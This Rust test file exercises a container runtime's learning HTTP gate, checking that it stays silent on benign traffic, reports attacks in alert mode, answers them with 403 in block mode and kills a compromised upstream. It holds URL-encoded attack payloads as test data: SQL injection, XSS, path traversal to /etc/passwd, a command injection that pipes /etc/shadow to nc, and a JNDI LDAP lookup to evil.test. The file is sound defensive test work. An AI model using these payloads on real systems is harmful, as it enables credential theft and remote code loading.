//! The HTTP gate through CRI: pods annotated with `palisade.dev/gate` in front of a busybox
//! httpd, learning from benign traffic, then alerting on and blocking attacks, with the
//! learned profile carried from pod to pod of one service and merged across pods.

use std::net::SocketAddr;
use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::time::Duration;

use anyhow::{bail, Context as _, Result};
use k8s_cri::v1::PodSandboxConfig;

use super::eventlog::{field, get, of_pod_rule, pod_ip, summary, EventLog};
use super::{Observed, Scope, SecCheck, PALISADE};
use crate::cri;
use crate::sec_check;
use crate::suite::{ensure, Ctx};

pub(crate) const GATE: &str = "palisade.dev/gate";
const GATE_MODE: &str = "palisade.dev/gate-mode";
pub(crate) const LISTEN: u16 = 8000;
/// What the static page and the CGI script answer with: proof that the upstream answered.
const PAGE_MARK: &str = "palisade gate test page";
const APP_MARK: &str = "palisade gate test app";
/// Benign requests per learning pod.
pub(crate) const LEARN_EACH: usize = 150;
/// How long a gate event may take to reach the log: a bound for a loaded CI machine (the
/// shim's event thread competes with the load), not an expectation.
pub(crate) const EVENT_WAIT: Duration = Duration::from_secs(15);

pub fn all() -> Vec<SecCheck> {
    let only = Scope::Only(PALISADE);
    vec![
        sec_check!(gate_learn_alert_block, 180, only),
        sec_check!(gate_indicators_compromise, 150, only),
        sec_check!(gate_bad_annotation, 60, only),
    ]
}

/// Words seen while learning, and others seen only afterwards (ordinary, never learned).
pub(crate) const LEARN_WORDS: &[&str] = &[
    "shoes", "boots", "socks", "scarf", "gloves", "jacket", "shirt", "dress", "skirt", "jeans",
    "hat", "belt", "coat", "vest", "tie", "cap", "parka", "shorts", "blazer", "loafers",
];
pub(crate) const FRESH_WORDS: &[&str] = &[
    "sandals", "sweater", "hoodie", "blouse", "trousers", "beanie", "mittens", "poncho",
];

/// The learned endpoints: the static page takes `q`, `page` and `sort`, the CGI app `id`,
/// `name` and `lang`. Each learning pod sees one of them, so only the merged profile knows both.
pub(crate) fn page_request(word: &str, n: usize) -> String {
    let sort = ["name", "price", "date"][n % 3];
    format!("/index.html?q={word}&page={}&sort={sort}", 1 + n % 40)
}

fn app_request(word: &str, n: usize) -> String {
    let lang = ["en", "de", "fr"][n % 3];
    format!(
        "/cgi-bin/app?id={}&name={word}&lang={lang}",
        1 + (n * 7919) % 99_999
    )
}

/// An attack: its family, the request target, and whether it goes to the static page.
pub(crate) fn attacks() -> Vec<(&'static str, String)> {
    vec![
        (
            "sqli",
            "/index.html?q=%27%20OR%201%3D1%20--&page=2&sort=name".into(),
        ),
        (
            "xss",
            "/index.html?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&page=3&sort=price".into(),
        ),
        (
            "path-traversal",
            "/cgi-bin/app?id=17&name=..%2F..%2F..%2F..%2Fetc%2Fpasswd&lang=en".into(),
        ),
        (
            "command-injection",
            "/cgi-bin/app?id=18&name=x%3Bcat%20%2Fetc%2Fshadow%7Cnc%20h%204444&lang=de".into(),
        ),
        (
            "jndi",
            "/index.html?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.test%2Fa%7D&page=4&sort=date".into(),
        ),
        (
            "unknown-parameter",
            "/index.html?q=boots&page=5&sort=name&debug=1".into(),
        ),
        (
            "oversized",
            format!("/index.html?q={}&page=6&sort=price", "a".repeat(3000)),
        ),
    ]
}

/// Ordinary requests with values never seen while learning, on both endpoints.
fn fresh_benign() -> Vec<String> {
    let mut v = Vec::new();
    for (i, w) in FRESH_WORDS.iter().enumerate() {
        v.push(page_request(w, 1000 + i));
        v.push(app_request(w, 2000 + i * 13));
    }
    v
}

fn path_of(target: &str) -> &str {
    target.split('?').next().unwrap_or(target)
}

/// The document root shared read-only by every httpd of the check.
pub(crate) fn write_www(dir: &Path) -> Result<std::path::PathBuf> {
    let www = dir.join("www");
    let cgi = www.join("cgi-bin");
    std::fs::create_dir_all(&cgi).with_context(|| format!("create {}", cgi.display()))?;
    std::fs::write(
        www.join("index.html"),
        format!("<html><body>{PAGE_MARK}</body></html>\n"),
    )
    .context("write index.html")?;
    let app = cgi.join("app");
    std::fs::write(
        &app,
        format!("#!/bin/sh\necho 'Content-Type: text/plain'\necho\necho '{APP_MARK}'\n"),
    )
    .context("write cgi script")?;
    for (p, mode) in [(&www, 0o755), (&cgi, 0o755), (&app, 0o755)] {
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode))
            .with_context(|| format!("chmod {}", p.display()))?;
    }
    Ok(www)
}

/// A gated pod with the httpd upstream; returns (pod id, pod name, gate address).
pub(crate) async fn gated_pod(
    ctx: &Ctx,
    www: &Path,
    mode: Option<&str>,
) -> Result<(String, String, SocketAddr)> {
    let (pod, name, addr, _) = gated_pod_with(ctx, www, mode, &[]).await?;
    Ok((pod, name, addr))
}

/// As `gated_pod`, with more pod annotations; also returns the httpd container's id.
async fn gated_pod_with(
    ctx: &Ctx,
    www: &Path,
    mode: Option<&str>,
    annotations: &[(&str, &str)],
) -> Result<(String, String, SocketAddr, String)> {
    let mut cfg: PodSandboxConfig = ctx.pod_config();
    cfg.annotations
        .insert(GATE.into(), format!("listen={LISTEN},upstream=8080"));
    for (k, v) in annotations {
        cfg.annotations.insert(k.to_string(), v.to_string());
    }
    if let Some(m) = mode {
        cfg.annotations.insert(GATE_MODE.into(), m.into());
    }
    let name = crate::cri::pod_name(&cfg).to_string();
    let pod = ctx.run_pod(&cfg).await?;
    let mut cc = ctx.container(
        "httpd",
        &["httpd", "-f", "-p", "127.0.0.1:8080", "-h", "/www"],
    );
    cc.mounts = vec![cri::bind_mount("/www", www, true)];
    let httpd = ctx.cri.run_container(&pod, &cc, &cfg).await?;
    let addr = SocketAddr::new(pod_ip(ctx, &pod).await?, LISTEN);
    // The gate listens from the sandbox on; the upstream only once httpd runs.
    let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
    loop {
        let r = get(addr, &page_request("boots", 0)).await;
        match r {
            Ok(r) if r.status == 200 && r.body.contains(PAGE_MARK) => break,
            other if tokio::time::Instant::now() > deadline => {
                bail!("gate of pod {name} at {addr} not serving the upstream after 20s: {other:?}")
            }
            _ => tokio::time::sleep(Duration::from_millis(200)).await,
        }
    }
    Ok((pod, name, addr, httpd))
}

pub(crate) async fn expect_forwarded(addr: SocketAddr, target: &str) -> Result<()> {
    let r = get(addr, target).await?;
    let mark = if path_of(target) == "/index.html" {
        PAGE_MARK
    } else {
        APP_MARK
    };
    ensure(r.status == 200 && r.body.contains(mark), || {
        format!(
            "GET {:.80}: status {}, body {:.120?}: not the upstream's answer",
            target, r.status, r.body
        )
    })
}

pub(crate) async fn remove(ctx: &Ctx, pod: &str) -> Result<()> {
    ctx.cri.remove_pod(pod).await?;
    ctx.untrack(pod);
    Ok(())
}

pub(crate) fn is_gate_event_of(e: &serde_json::Value, pod: &str) -> bool {
    field(e, "/source") == "gate" && field(e, "/workload/pod") == pod
}

/// Learn in two pods of one service (one endpoint each), persist on removal; a third pod in
/// alert mode forwards and reports every attack and neither reports nor refuses ordinary new
/// values on both endpoints (the merged profile); a fourth in block mode refuses the attacks
/// with a 403 carrying the request id and forwards the benign requests.
pub async fn gate_learn_alert_block(ctx: &Ctx) -> Result<Observed> {
    let www = write_www(&ctx.dir)?;
    let (learn_a, name_a, addr_a) = gated_pod(ctx, &www, None).await?;
    let (learn_b, name_b, addr_b) = gated_pod(ctx, &www, Some("learn")).await?;
    let log = EventLog::mark(ctx)?;
    for n in 0..LEARN_EACH {
        let w = LEARN_WORDS[(n * 7) % LEARN_WORDS.len()];
        expect_forwarded(addr_a, &page_request(w, n)).await?;
        expect_forwarded(addr_b, &app_request(w, n)).await?;
    }
    let learned_events = log.matching(|e| {
        field(e, "/source") == "gate"
            && (field(e, "/workload/pod") == name_a || field(e, "/workload/pod") == name_b)
    })?;
    ensure(learned_events.is_empty(), || {
        format!(
            "learning pods reported events: {}",
            summary(&learned_events)
        )
    })?;
    // The shim writes what its gate learned when the pod goes.
    remove(ctx, &learn_a).await?;
    remove(ctx, &learn_b).await?;
    let service = format!(
        "palisade-conformance_{}-{}",
        ctx.check.replace('_', "-"),
        ctx.handler
    );
    // One file per pod, named by the pod's id, in the directory of the service the pod name
    // gives (`<namespace>_<name without its ordinal>`).
    let mut stored = 0;
    if let Some(state) = &ctx.settings.gate_state_dir {
        let dir = state.join(&service);
        for pod in [&learn_a, &learn_b] {
            let file = dir.join(format!("{pod}.profile.json"));
            let doc = std::fs::read_to_string(&file)
                .with_context(|| format!("gate profile of pod {pod}: {}", file.display()))?;
            ensure(doc.len() > 100, || {
                format!("{}: {} bytes", file.display(), doc.len())
            })?;
            stored += 1;
        }
    }
    // Alert: the merged profile judges; everything is forwarded, attacks are reported.
    let (alert, alert_name, addr) = gated_pod(ctx, &www, Some("alert")).await?;
    let log = EventLog::mark(ctx)?;
    let benign = fresh_benign();
    for t in &benign {
        expect_forwarded(addr, t).await?;
    }
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let false_alarms = log.matching(|e| is_gate_event_of(e, &alert_name))?;
    ensure(false_alarms.is_empty(), || {
        format!(
            "alert mode reported {} of {} ordinary requests: {}",
            false_alarms.len(),
            benign.len(),
            summary(&false_alarms)
        )
    })?;
    let mut reported = Vec::new();
    for (family, target) in attacks() {
        // A mark of its own per attack: several attacks share a path, and an earlier one's
        // event must not stand for this one's while it is still on its way to the log.
        let attack_log = EventLog::mark(ctx)?;
        expect_forwarded(addr, &target)
            .await
            .with_context(|| format!("alert mode, {family}"))?;
        let path = path_of(&target).to_string();
        let ev = attack_log
            .wait_for(EVENT_WAIT, |e| {
                is_gate_event_of(e, &alert_name)
                    && field(e, "/rule/name") == "gate-request-rules"
                    && field(e, "/action") == "audit"
                    && field(e, "/evidence/path") == path
            })
            .await?;
        let Some(ev) = ev else {
            bail!(
                "alert mode: {family} attack {target:.80} forwarded but not reported within {} s",
                EVENT_WAIT.as_secs()
            );
        };
        let reasons = ev
            .pointer("/evidence/reasons")
            .map(|r| r.to_string())
            .unwrap_or_default();
        reported.push(format!("{family}: {reasons:.60}"));
    }
    remove(ctx, &alert).await?;

    // Block: attacks refused with the request id, benign requests forwarded.
    let (_block, block_name, addr) = gated_pod(ctx, &www, Some("block")).await?;
    let log = EventLog::mark(ctx)?;
    for t in &benign {
        expect_forwarded(addr, t)
            .await
            .context("block mode, benign request")?;
    }
    for (family, target) in attacks() {
        let r = get(addr, &target).await?;
        let id = r.header("x-request-id").unwrap_or("").to_string();
        ensure(
            r.status == 403 && !id.is_empty() && r.body.contains(&id),
            || {
                format!(
                    "block mode: {family}: status {}, x-request-id {id:?}, body {:.120?}",
                    r.status, r.body
                )
            },
        )?;
        let ev = log
            .wait_for(EVENT_WAIT, |e| {
                is_gate_event_of(e, &block_name)
                    && field(e, "/action") == "block"
                    && field(e, "/evidence/request_id") == id
            })
            .await?;
        ensure(ev.is_some(), || {
            format!("block mode: {family} refused as {id} but no block event with that id")
        })?;
    }
    // Benign requests are neither refused nor reported: the only request events are the attacks'.
    let request_events = log.matching(|e| {
        is_gate_event_of(e, &block_name) && field(e, "/rule/name") == "gate-request-rules"
    })?;
    ensure(request_events.len() == attacks().len(), || {
        format!(
            "block mode: {} request events for {} attacks: {}",
            request_events.len(),
            attacks().len(),
            summary(&request_events)
        )
    })?;
    Ok(Observed::blocked(format!(
        "learn {} in 2 pods ({stored} files); alert: {}/{} attacks reported, 0/{} benign; block: 403 {}/{}",
        2 * LEARN_EACH,
        reported.len(),
        attacks().len(),
        benign.len(),
        attacks().len(),
        attacks().len()
    )))
}

/// The gate's pod indicators feed the compromise policy: after learning, a pod whose gate
/// refuses more requests than `gate-violations` allows gets its upstream container (named by
/// `container=` in the gate annotation) killed as compromised, with the gate's evidence.
pub async fn gate_indicators_compromise(ctx: &Ctx) -> Result<Observed> {
    let www = write_www(&ctx.dir)?;
    let (learn, _, addr) = gated_pod(ctx, &www, None).await?;
    for n in 0..LEARN_EACH {
        let w = LEARN_WORDS[(n * 7) % LEARN_WORDS.len()];
        expect_forwarded(addr, &page_request(w, n)).await?;
        expect_forwarded(addr, &app_request(w, n)).await?;
    }
    remove(ctx, &learn).await?;
    let gate = format!("listen={LISTEN},upstream=8080,container=httpd");
    let (_pod, name, addr, httpd) = gated_pod_with(
        ctx,
        &www,
        Some("block"),
        &[
            (GATE, gate.as_str()),
            ("palisade.dev/compromise", "gate-violations=3,backoff=60s"),
        ],
    )
    .await?;
    let log = EventLog::mark(ctx)?;
    for t in fresh_benign().iter().take(5) {
        expect_forwarded(addr, t)
            .await
            .context("benign request before the attacks")?;
    }
    let mut refused = 0;
    for (_, target) in attacks().into_iter().take(3) {
        if get(addr, &target).await?.status == 403 {
            refused += 1;
        }
    }
    ensure(refused == 3, || format!("{refused} of 3 attacks refused"))?;
    let st = ctx
        .cri
        .wait_exited(&httpd, Duration::from_secs(15))
        .await
        .context("the gate's violations did not get the upstream killed")?;
    ensure(st.exit_code == 173, || {
        format!("httpd exit code {}, want 173", st.exit_code)
    })?;
    let ev = log
        .wait_for(EVENT_WAIT, of_pod_rule(&name, "container-compromised"))
        .await?
        .context("no container-compromised event")?;
    let reason = field(&ev, "/evidence/reason");
    ensure(reason.starts_with("gate: "), || {
        format!("compromise decided by {reason:?}, not the gate")
    })?;
    ensure(field(&ev, "/workload/container") == "httpd", || {
        format!(
            "compromise of container {:?}",
            field(&ev, "/workload/container")
        )
    })?;
    Ok(Observed::blocked(format!(
        "3 requests refused, httpd killed (173): {reason}"
    )))
}

/// `listen=abc` makes RunPodSandbox fail with a message naming the annotation.
pub async fn gate_bad_annotation(ctx: &Ctx) -> Result<Observed> {
    let mut cfg = ctx.pod_config();
    cfg.annotations
        .insert(GATE.into(), "listen=abc,upstream=8080".into());
    let msg = ctx.run_pod_refused(&cfg, GATE, "abc").await?;
    let shown = msg
        .find("pod annotation")
        .map_or(msg.as_str(), |i| &msg[i..]);
    let shown = shown.replace("\\\"", "\"");
    let shown = shown
        .trim_end_matches('"')
        .trim_end_matches(": invalid argument");
    Ok(Observed::blocked(format!("refused: {shown:.80}")))
}
